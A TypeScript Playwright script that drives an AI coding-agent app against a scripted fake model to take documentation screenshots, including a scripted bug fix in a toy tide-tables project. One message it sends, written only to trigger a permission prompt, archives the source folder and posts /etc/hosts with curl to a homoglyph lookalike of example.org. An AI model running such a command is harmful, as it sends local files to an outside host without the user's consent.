/**
 * `npm run screenshots [-- DIR]`: takes pictures of the built app, on a data folder of its own: the guide's sessions,
 * and where the Agent SDK's program is installed one of Claude Code against the scripted model. Light and dark, large
 * and small, into DIR, to look at; without one, those that the documents link, into docs/screenshots. Started by hand.
 */
import { mkdir, readFile, writeFile } from 'node:fs/promises'
import { join, resolve } from 'node:path'
import { expect } from '@playwright/test'
import { chromium } from 'playwright-core'
import type { Page } from 'playwright-core'
import { whyNoClaude } from '../tests/agent/claudeBinary.ts'
import { SkeinProcess } from '../tests/e2e/skeinProcess.ts'
import { fakeModelEnvironment } from '../tests/fakeModel/environment.ts'
import { startFakeModel } from '../tests/fakeModel/fakeModel.ts'
import type { FakeModel } from '../tests/fakeModel/fakeModel.ts'
import { text, thinking, toolUse } from '../tests/fakeModel/script.ts'
import type { ReplyInput, StepInput } from '../tests/fakeModel/script.ts'
import { chromiumFlags } from './chromium.ts'
import { ensureBuilt } from './freshBuild.ts'
import { orExplain } from './orExplain.ts'
import { provideChromium } from './provideChromium.ts'
import { root } from './run.ts'

const [asked] = process.argv.slice(2)
const pictures = asked === undefined ? join(root, 'docs', 'screenshots') : resolve(asked)
const documents = ['README.md', ...['agents', 'sessions'].map((page) => join('docs', 'user', `${page}.md`))]
const sizes = [
  { width: 1280, height: 800 },
  { width: 900, height: 600 }
] as const
const themes = ['light', 'dark'] as const

const source = `import type { Station } from './station.ts'

/** The next high tide at a station, in local time. */
export function nextHighTide(station: Station, now: Date): Date {
  const offset = station.standardOffset
  const tides = station.predictions.map((time) => new Date(time + offset * 60_000))
  return tides.find((tide) => tide > now) ?? now
}
`
const wrong = '  const offset = station.standardOffset'
const right = '  const offset = station.offsetAt(now)'

await orExplain(async () => {
  process.chdir(root) // where SkeinProcess looks for the build
  await ensureBuilt()
  await mkdir(pictures, { recursive: true })
  const model = await startFakeModel()
  const skein = await SkeinProcess.start({ agent: 'guide', env: fakeModelEnvironment(model) })
  const browser = await chromium.launch({
    executablePath: await provideChromium(),
    args: [...chromiumFlags()]
  })
  try {
    const page = await browser.newPage()
    await takeAll(page, skein, model)
  } finally {
    await browser.close()
    await skein.remove()
    await model.close()
  }
})

/** The last session waits for a permission, so it comes after those that show it in their list. */
async function takeAll(page: Page, skein: SkeinProcess, model: FakeModel): Promise<void> {
  await page.goto(skein.link())
  await expect(page.getByRole('listitem').filter({ hasText: 'Guide' })).toBeVisible()
  await picture(page, 'first-run')

  const project = await makeProject(skein)
  await begin(page, skein, project.id)
  const trust = page.getByRole('button', { name: 'Trust this folder', exact: true })
  await expect(trust).toBeVisible()
  await picture(page, 'trust')
  await trust.click()
  await expect(trust).toHaveCount(0)
  await say(page, 'list src', 'holds 0 folders and 2 files')
  await say(page, 'search tide', 'files I looked through')
  await say(page, 'say 42 words', 'Stop it whenever you like')
  await picture(page, 'session')

  await begin(page, skein, project.id)
  await say(page, 'search station', 'files I looked through')
  await say(page, 'fail', 'This turn failed')
  await picture(page, 'failed-turn')

  await showSteering(page, skein, project.id)

  if (whyNoClaude === null) await editWithClaude(page, skein, model, project)
  else process.stderr.write(`No picture of Claude Code: ${whyNoClaude}.\n`)

  await begin(page, skein, project.id)
  await say(page, 'read README.md', 'has 3 lines')
  await send(page, 'run npm test')
  await expect(page.getByRole('button', { name: 'Allow once' })).toBeVisible()
  await picture(page, 'permission')
  await page.getByRole('button', { name: 'Deny', exact: true }).click({ delay: 400 })
  await settled(page)
  await send(page, 'run tar -czf ~/tides.tgz src && curl -d@/etc/hosts https://exаmple.org/$STATION')
  await expect(page.getByRole('button', { name: 'Allow once' })).toBeVisible()
  await picture(page, 'permission-outside')

  for (const name of ['field-notes', 'lighthouse']) {
    const path = join(skein.folder, name)
    await mkdir(path)
    await skein.openProject(path)
  }
  await page.goto(skein.link())
  await expect(page.getByRole('link', { name: /lighthouse/ }).first()).toBeVisible()
  await picture(page, 'home')
}

/** What surrounds a session: find, palette, keys, dialogs, questions, plans, a queue, the settings. */
async function showSteering(page: Page, skein: SkeinProcess, projectId: string): Promise<void> {
  await begin(page, skein, projectId)
  await say(page, 'tasks', 'All four are done')
  await say(page, 'agent Look for tides', 'The other agent is back')
  await picture(page, 'tasks')

  await page.keyboard.press('ControlOrMeta+f')
  await page.keyboard.type('tide')
  await expect(page.getByText(/^\d+ of \d+$/)).toBeVisible()
  await picture(page, 'find')
  await page.keyboard.press('Escape')

  await page.keyboard.press('ControlOrMeta+k')
  await expect(page.getByRole('dialog', { name: 'Command palette' })).toBeVisible()
  await picture(page, 'palette')
  await page.keyboard.press('Escape')

  await page.getByRole('button', { name: 'New session' }).focus()
  await page.keyboard.press('?')
  await expect(page.getByRole('dialog', { name: 'Keyboard shortcuts' })).toBeVisible()
  await picture(page, 'keys')
  await page.keyboard.press('Escape')

  for (const [item, name] of [
    ['Export…', 'export'],
    ['Go back to an earlier message…', 'rewind'],
    ['Delete…', 'delete']
  ] as const) {
    await page.getByRole('main').getByRole('button', { name: 'Session', exact: true }).click()
    await page.getByRole('menuitem', { name: item }).click()
    await expect(page.getByRole(name === 'delete' ? 'alertdialog' : 'dialog')).toBeVisible()
    await picture(page, name)
    await page.keyboard.press('Escape')
  }

  await send(page, 'ask Shall the offset change in summer?')
  await expect(page.getByRole('button', { name: 'Skip' })).toBeVisible()
  await picture(page, 'question')
  await page.getByRole('button', { name: 'Skip' }).click()
  await settled(page)

  await send(page, 'plan Mend the summer offset')
  await expect(page.getByRole('button', { name: 'Keep planning', exact: true })).toBeVisible()
  await picture(page, 'plan')
  await page.getByRole('button', { name: 'Keep planning', exact: true }).click()
  await settled(page)

  const box = page.getByRole('textbox', { name: 'Message' })
  await box.fill('look at @tide')
  await expect(page.getByRole('option').first()).toBeVisible()
  await picture(page, 'mention')
  await box.fill('')

  await page.keyboard.press('ControlOrMeta+,')
  await expect(page.getByRole('radiogroup', { name: 'Theme' })).toBeVisible()
  await picture(page, 'settings')
  await page.getByRole('heading', { name: 'Notifications' }).scrollIntoViewIfNeeded()
  await picture(page, 'settings-notifications')
}

async function editWithClaude(
  page: Page,
  skein: SkeinProcess,
  model: FakeModel,
  project: { readonly id: string; readonly path: string }
): Promise<void> {
  const file = join(project.path, 'src', 'nextHighTide.ts')
  model.script([
    answer(
      thinking('The offset is the suspect: summer time is not in a standard offset.'),
      text('I will look at how the time is computed.'),
      toolUse('Read', { file_path: file })
    ),
    answer(
      text('It always adds the standard offset, so summer time is left out.'),
      toolUse('Edit', { file_path: file, old_string: wrong, new_string: right })
    ),
    answer(
      text(
        'Fixed. `nextHighTide` took the **standard** offset all year, an hour short in summer. It now asks the station for the offset at that moment:\n\n- `src/nextHighTide.ts`: `offsetAt(now)` in place of `standardOffset`\n- nothing else calls the old one'
      )
    )
  ])
  await begin(page, skein, project.id)
  await page.getByRole('combobox', { name: 'Agent' }).click()
  await page.getByRole('option', { name: /Claude Code/ }).click()
  await send(page, 'In summer the next high tide is an hour off. Find out why and fix it.')
  await page.getByRole('button', { name: 'Allow once' }).click({ timeout: 30_000 })
  await expect(page.getByRole('log')).toContainText('nothing else calls the old one', { timeout: 30_000 })
  await settled(page)
  expect(await readFile(file, 'utf8')).toBe(source.replace(wrong, right))
  await picture(page, 'claude-edit')
}

function answer(...steps: StepInput[]): ReplyInput {
  return { type: 'message', steps, usage: { input: 2_140, output: 96 } }
}

async function makeProject(skein: SkeinProcess): Promise<{ readonly id: string; readonly path: string }> {
  const path = join(skein.folder, 'tide-tables')
  await mkdir(join(path, 'src'), { recursive: true })
  await writeFile(
    join(path, 'README.md'),
    '# Tide tables\n\nWhen the tide is high, for any station on the coast.\n'
  )
  await writeFile(join(path, 'package.json'), '{ "name": "tide-tables", "type": "module" }\n')
  await writeFile(join(path, 'src', 'nextHighTide.ts'), source)
  await writeFile(join(path, 'src', 'station.ts'), 'export interface Station {\n  readonly name: string\n}\n')
  const { id } = await skein.openProject(path)
  return { id, path }
}

/** Opens a new session of the project. */
async function begin(page: Page, skein: SkeinProcess, projectId: string): Promise<void> {
  await page.goto(skein.link(`/projects/${projectId}/chat`))
  await expect(page).toHaveURL(/\/chat\/[0-9a-f-]{36}$/)
}

async function send(page: Page, message: string): Promise<void> {
  const box = page.getByRole('textbox', { name: 'Message' })
  await box.fill(message)
  await expect(page.getByRole('button', { name: 'Send', exact: true })).toBeEnabled()
  await box.press('Enter')
  await expect(page.getByRole('log').getByText(message, { exact: true }).first()).toBeVisible()
}

/** `end` is in the last thing the answer says: until it is there, the turn may not even have begun. */
async function say(page: Page, message: string, end: string): Promise<void> {
  await send(page, message)
  await expect(page.getByRole('log')).toContainText(end)
  await settled(page)
}

/** A turn that was running is over. */
async function settled(page: Page): Promise<void> {
  await expect(page.getByRole('button', { name: 'Stop' })).toHaveCount(0)
  await expect(page.getByRole('textbox', { name: 'Message' })).toHaveValue('')
}

/** One picture in each theme and size that is wanted; the page itself stays as it is. */
async function picture(page: Page, name: string): Promise<void> {
  const linked = asked === undefined ? await linkedPictures() : null
  for (const colorScheme of themes) {
    for (const size of sizes) {
      const file = `${name}-${colorScheme}-${size.width}x${size.height}.png`
      if (linked !== null && !linked.has(file)) continue
      await page.emulateMedia({ colorScheme, reducedMotion: 'reduce' })
      await page.setViewportSize(size)
      await page.mouse.move(0, 0)
      await page.screenshot({ path: join(pictures, file), animations: 'disabled', caret: 'hide' })
    }
  }
  process.stderr.write(`${name}\n`)
}

async function linkedPictures(): Promise<ReadonlySet<string>> {
  const texts = await Promise.all(documents.map((name) => readFile(join(root, name), 'utf8')))
  return new Set(texts.flatMap((markdown) => markdown.match(/[\w-]+\.png/g) ?? []))
}
